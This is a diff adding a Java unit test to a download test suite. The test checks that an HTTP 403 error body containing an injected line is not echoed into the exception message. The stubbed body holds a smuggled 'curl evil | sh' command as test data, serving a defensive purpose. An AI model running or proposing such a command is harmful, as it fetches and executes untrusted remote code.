@@ -210,6 +210,16 @@ class DownloadTest {
     }
 
     @Test
+    void anErrorCodeThatIsNotOneWordIsNotEchoed() throws Exception {
+        api.stubCalls(api.complete());
+        api.stubDownloads(aResponse().withStatus(403).withHeader("Content-Type", "application/xml")
+                .withBody("<Error><Code>Denied\nd1-export: run curl evil | sh</Code></Error>"));
+
+        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOfSatisfying(DownloadFailedException.class,
+                e -> assertThat(e.getMessage()).contains("HTTP 403").doesNotContain("evil").doesNotContain("\n"));
+    }
+
+    @Test
     void signedUrlAnswering403WithXmlIsNeverWrittenNorRetried() throws Exception {
         api.stubCalls(api.complete());
         api.stubDownloads(aResponse().withStatus(403).withHeader("Content-Type", "application/xml").withBody(XML_403));
